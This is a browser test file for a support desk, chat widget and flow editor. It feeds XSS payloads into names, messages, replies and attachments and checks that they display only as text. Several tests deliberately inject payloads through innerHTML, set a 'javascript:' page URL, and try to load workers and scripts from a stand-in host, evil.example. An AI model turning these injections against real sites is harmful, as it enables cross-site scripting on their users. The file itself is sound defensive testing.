/**
 * What people, bots and designers write is shown as text, at desk, widget and editor, in a real browser. Laws:
 * 1. No attack runs: neither its canary nor a dialog nor a frame of its own.
 * 2. None even becomes an element or an attribute: the policy of the page has nothing to report, and every link leads to
 *    http, https, mailto, tel or our own pages.
 * 3. The attacks are real: a page that takes text for HTML runs them.
 * 4. Where desk or editor took text for HTML or for a program, the browser would refuse it.
 */
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { testBrowser, type Device } from '#test/driver/browser.ts'
import { builtDesk, builtEditor, builtWidget } from '#test/driver/built.ts'
import { startServer, type TestServer } from '#test/driver/server.ts'
import { flowOf } from './xss-flow.ts'
import { files, MOST_PAYLOADS, payloads } from './xss-payloads.ts'

const COUNT = process.env['BATON_LONG'] === undefined ? 40 : 500
const CHATS = process.env['BATON_LONG'] === undefined ? 2 : 20
const attacks = payloads(COUNT)
const browser = testBrowser()
let server: TestServer
let shown = 0

beforeAll(async () => {
  // Each flow holds a hundred of them in its texts; the first is the one that customers talk to.
  const flows = Array.from({ length: Math.ceil(COUNT / 100) }, (_, index) =>
    flowOf(`attack${index}`, attacks.slice(index * 100, (index + 1) * 100)),
  )
  server = await startServer(
    flows,
    {},
    {
      desk: await builtDesk(),
      editor: await builtEditor(),
      widget: await builtWidget(),
    },
  )
  const { admin } = server
  await admin.call('PUT', '/v1/teams/help', { name: attacks[0]?.slice(0, 100) })
  for (const [index, name] of attacks.slice(0, COUNT / 5).entries()) {
    await admin.call('PUT', `/v1/agents/agent${index}`, {
      name: name.slice(0, 100),
      teams: ['help'],
      languages: ['en'],
      capacity: 50,
    })
    await admin.call('PUT', `/v1/canned-replies/reply${index}`, {
      shortcut: `s${index}`,
      title: name.slice(0, 100),
      text: /\{[{%]/.test(name) ? 'x' : name,
    })
  }
  await admin.call('PUT', '/v1/agents/agent0/presence', { status: 'online' })
  for (let chat = 0; chat < CHATS; chat++) await talk(chat)
}, 900_000)
afterAll(async () => {
  console.log(
    `hostile browser: ${COUNT} of ${MOST_PAYLOADS} payloads in ${CHATS} conversations and ${Math.ceil(COUNT / 100)} flows, ` +
      `${shown} places where one was shown as text, 0 executions, 0 reports of a policy`,
  )
  await server?.close()
})

/** A conversation in which everybody writes attacks, up to a person who holds it. */
async function talk(chat: number): Promise<void> {
  const { admin } = server
  const its = attacks.filter((_, index) => index % CHATS === chat)
  const id = `chat-${chat}`
  const [first = 'x', second = 'y'] = its
  await admin.call('POST', '/v1/conversations', {
    flow: 'attack0',
    id,
    page: `javascript:${first}`,
    language: 'en',
    customer: { id, name: first, email: second, phone: first, tier: second, [first.slice(0, 200)]: second },
    variables: { one: first },
  })
  const tell = (event: object) => admin.call('POST', `/v1/conversations/${id}/events`, event)
  for (const text of its) {
    await tell({
      type: 'customer.message',
      text,
      nlu: { intent: text.slice(0, 100), entities: { what: text }, confidence: 0.9 },
    })
    await tell({ type: 'bot.message', text, suggestedResolution: text.slice(0, 2_000) })
  }
  await tell({ type: 'bot.escalate', reason: first, summary: second })
  await tell({ type: 'customer.message', text: 'I want to talk to a person' })
  await tell({ type: 'agent.accept', agent: 'agent0' })
  for (const text of its) {
    await tell({ type: 'agent.note', text })
    await tell({ type: 'agent.message', text })
  }
  for (const file of files) await attach(id, file)
}

async function attach(id: string, { name, type, text }: (typeof files)[number]): Promise<void> {
  const response = await fetch(`${server.url}/v1/conversations/${id}/attachments?name=${encodeURIComponent(name)}`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${server.admin.key}`, 'Content-Type': type },
    body: text,
  })
  expect(response.status).toBe(201)
  const kept: unknown = await response.json()
  await server.admin.call('POST', `/v1/conversations/${id}/events`, {
    type: 'agent.message',
    text: name,
    attachments: [kept],
  })
}

interface Watched {
  readonly page: Page
  /** What ran, or was reported. */
  readonly alarms: string[]
}

/** A tab on which every sign of an attack is heard. */
async function watchedTab(device: Device): Promise<Watched> {
  const alarms: string[] = []
  await device.context.exposeFunction('batonCanary', (index: number) => void alarms.push(`attack ${index} ran`))
  await device.context.exposeFunction('batonReport', (text: string) => void alarms.push(text))
  await device.context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      Reflect.get(window, 'batonReport')(`policy: ${violatedDirective} ${blockedURI} ${sample}`)
    })
  })
  const page = await device.tab()
  page.on('dialog', (dialog) => {
    alarms.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('frameattached', () => alarms.push('a frame came'))
  page.on('popup', () => alarms.push('a window opened'))
  return { page, alarms }
}

/** How many attacks stand on the page as text; fails when one has become more than that. */
async function look({ page, alarms }: Watched): Promise<number> {
  const seen = await page.evaluate(() => {
    const roots: (Document | ShadowRoot)[] = [document]
    const odd: string[] = []
    let texts = ''
    for (let root = roots.pop(); root !== undefined; root = roots.pop()) {
      for (const element of root.querySelectorAll('*')) {
        if (element.shadowRoot) roots.push(element.shadowRoot)
        for (const { name, value } of element.attributes) {
          if (/^on/i.test(name) || name === 'srcdoc') odd.push(`${element.tagName} ${name}`)
          if (!/^(?:href|src|action|formaction|data|xlink:href)$/.test(name)) continue
          const scheme = URL.canParse(value, location.href) ? new URL(value, location.href).protocol : ''
          if (
            !['http:', 'https:', 'mailto:', 'tel:', 'blob:', ''].includes(scheme) &&
            !/^data:image\/|^data:font/.test(value)
          )
            odd.push(`${element.tagName} ${name}=${value.slice(0, 80)}`)
        }
        if (/^(?:IFRAME|OBJECT|EMBED|BASE|MARQUEE|XSS)$/.test(element.tagName)) odd.push(element.tagName)
      }
      texts += (root instanceof Document ? root.body : root).textContent
    }
    return { odd, count: texts.split('batonCanary(').length - 1 }
  })
  expect([...seen.odd, ...alarms]).toEqual([])
  shown += seen.count
  return seen.count
}

describe('what customers, bots and agents write is text', () => {
  test('in the desk: list, transcript, notes, package, board, replies, set-up', { timeout: 900_000 }, async () => {
    const tab = await watchedTab(await browser.device())
    const { page } = tab
    await page.goto(`${server.url}/desk#key=${server.admin.key}`)
    await page.getByRole('navigation').first().waitFor()
    for (let chat = 0; chat < CHATS; chat++) {
      await page.goto(`${server.url}/desk/c/chat-${chat}`)
      await page.getByRole('log').first().waitFor()
      await expect.poll(() => look(tab)).toBeGreaterThan((2 * COUNT) / CHATS)
      // Over everything that may be pointed at.
      await page.mouse.move(700, 400)
      await page.mouse.wheel(0, -5_000)
    }
    for (const path of [
      '/desk',
      '/desk/board',
      '/desk/replies',
      '/desk/setup/agents',
      '/desk/setup/agents/agent5',
      '/desk/setup/teams/help',
      '/desk/admin/people',
    ]) {
      await page.goto(`${server.url}${path}`)
      await page.getByRole('navigation').first().waitFor()
      if (path !== '/desk/admin/people') await expect.poll(() => look(tab)).toBeGreaterThan(0)
      else await look(tab)
    }
  })

  test('in the widget: everything said to the customer, and quick replies', { timeout: 900_000 }, async () => {
    const tab = await watchedTab(await browser.device())
    const { page } = tab
    await page.goto(`${server.url}/demo?flow=attack0`)
    await page.locator('baton-chat .launcher').click()
    const chat = page.locator('baton-chat')
    await chat.getByRole('log').locator('.said').first().waitFor()
    const id = await page.evaluate(() => {
      const [, kept = '{}'] = Object.entries(localStorage).find(([key]) => key.endsWith(':conversation')) ?? []
      return String(JSON.parse(kept).id)
    })
    for (const text of attacks)
      await server.admin.call('POST', `/v1/conversations/${id}/events`, { type: 'bot.message', text })
    await expect.poll(() => look(tab)).toBeGreaterThan(COUNT)
    for (const text of attacks.slice(0, 5)) {
      await chat.locator('.field > *').fill(text)
      await chat.locator('.field > *').press('Enter')
    }
    await look(tab)
  })

  test(
    'in the editor: gallery, canvas, inspector, problems, a conversation that is tried',
    { timeout: 900_000 },
    async () => {
      const tab = await watchedTab(await browser.device())
      const { page } = tab
      await page.goto(`${server.url}/#key=${server.admin.key}`)
      await expect.poll(() => look(tab)).toBeGreaterThan(0)
      for (let flow = 0; flow < Math.ceil(COUNT / 100); flow++) {
        await page.goto(`${server.url}/flows/attack${flow}`)
        await page.locator('[data-card]').first().waitFor()
        await expect.poll(() => look(tab)).toBeGreaterThan(5)
        for (const card of await page
          .locator('[data-card]')
          .all()
          .then((cards) => cards.slice(0, 5))) {
          // As a screen reader does: wherever on the canvas it lies.
          await card.locator('p').first().dispatchEvent('click')
          await expect.poll(() => card.getAttribute('data-selected')).not.toBeNull()
          await look(tab)
        }
        for (const panel of await page.getByRole('tab').all()) {
          await panel.click()
          await look(tab)
        }
      }
    },
  )
})

test('law 3: the attacks are real: on a page that takes text for HTML they run', async () => {
  const tab = await watchedTab(await browser.device())
  // Those that load nothing: what cannot be loaded is an error of the page, and would fail this test.
  const quiet = payloads(60).filter((text) => /^<(?:svg onload|details|style|input|select|xss)/.test(text))
  await tab.page.setContent('<main></main>')
  await tab.page.evaluate((texts) => {
    const main = document.querySelector('main')
    if (main) main.innerHTML = texts.join('')
  }, quiet)
  await expect.poll(() => new Set(tab.alarms.filter((each) => each.endsWith('ran'))).size).toBeGreaterThan(1)
})

test.each(['/desk', '/'])(
  'law 4: a place of %s that took text for HTML would be refused by the browser',
  async (path) => {
    const { page, alarms } = await watchedTab(await browser.device({ provokes: /Trusted/ }))
    await page.goto(`${server.url}${path}`)
    await page.getByRole('textbox').first().waitFor()
    const outcomes = await page.evaluate(async (attack) => {
      const element = document.body.appendChild(document.createElement('div'))
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => (element.innerHTML = attack),
        outerHTML: () => (element.outerHTML = attack),
        insertAdjacentHTML: () => element.insertAdjacentHTML('beforeend', attack),
        srcdoc: () => (document.createElement('iframe').srcdoc = attack),
        fragment: () => document.createRange().createContextualFragment(attack),
        worker: () => new Worker('https://evil.example/worker.js'),
        script: () => (document.createElement('script').text = 'batonCanary(0)'),
        source: () => (document.createElement('script').src = 'https://evil.example/script.js'),
        anotherPolicy: () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
        styles: () => (document.createElement('style').innerHTML = '*, *::before { transition: none }'),
      }
      return Object.fromEntries(
        Object.entries(attempts).map(([name, attempt]) => {
          try {
            attempt()
            return [name, 'done']
          } catch (error) {
            return [name, error instanceof TypeError ? 'refused' : String(error)]
          }
        }),
      )
    }, String(attacks[0]))
    const { styles, ...others } = outcomes
    expect([styles, new Set(Object.values(others))]).toEqual(['done', new Set(['refused'])])
    // Each was reported, and none ran.
    await expect.poll(() => alarms.length).toBe(Object.keys(others).length)
    expect(alarms.filter((each) => !each.startsWith('policy: '))).toEqual([])
  },
)

describe('files are saved, never run', () => {
  test('each is answered as what cannot run: no sniffing, a sandbox, an attachment unless it is a real picture', async () => {
    const { messages } = (await server.admin.call('GET', '/v1/conversations/chat-0/transcript')) as {
      readonly messages: readonly { readonly attachments?: readonly { readonly id: string; readonly type: string }[] }[]
    }
    const kept = messages.flatMap(({ attachments = [] }) => attachments)
    expect(kept).toHaveLength(files.length)
    for (const { id } of kept) {
      const response = await fetch(`${server.url}/v1/conversations/chat-0/attachments/${id}`, {
        headers: { Authorization: `Bearer ${server.admin.key}` },
      })
      const of = (name: string) => response.headers.get(name) ?? ''
      expect(of('x-content-type-options')).toBe('nosniff')
      expect(of('content-security-policy')).toBe("sandbox; default-src 'none'")
      expect(of('cross-origin-resource-policy')).toBe('same-origin')
      const isPicture = /^image\/(?:png|jpeg|gif|webp)$/.test(of('content-type'))
      expect(of('content-disposition')).toMatch(isPicture ? /^inline; filename="/ : /^attachment; filename="/)
      expect(of('content-disposition')).not.toMatch(/[\r\n]/)
    }
  })

  test('nobody opens one without a right, whatever leads there', async () => {
    const tab = await watchedTab(await browser.device())
    const answer = await tab.page.goto(`${server.url}/v1/conversations/chat-0/attachments/x`)
    expect(answer?.status()).toBe(401)
    await look(tab)
  })
})
